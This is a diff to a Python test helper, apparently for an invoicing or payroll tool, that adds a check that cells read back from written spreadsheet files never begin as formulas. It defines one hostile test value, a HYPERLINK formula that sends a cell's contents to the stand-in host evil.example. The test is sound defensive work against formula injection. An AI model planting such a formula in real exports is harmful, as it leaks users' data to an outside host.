@@ -44,3 +44,15 @@ def assert_ledger_matches_answers(delivered: dict[str, int], not_answered: tuple
         completed, in_flight = ledger.get(key, (0, 0))
         assert completed <= delivered.get(key, 0) <= completed + in_flight, (key, completed, in_flight, delivered)
     return sum(in_flight for _, in_flight in ledger.values())
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'  # text an invoice or a person may carry
+
+
+def assert_no_formula(cells: Any) -> None:
+    """No cell read back from a written file begins with a character a spreadsheet runs as a formula
+    (plain numbers such as -1234,56 aside: amounts stay numbers)."""
+    from quincena.core.cells import is_formula_like
+
+    bad = [c for c in cells if isinstance(c, str) and is_formula_like(c)]
+    assert not bad, bad
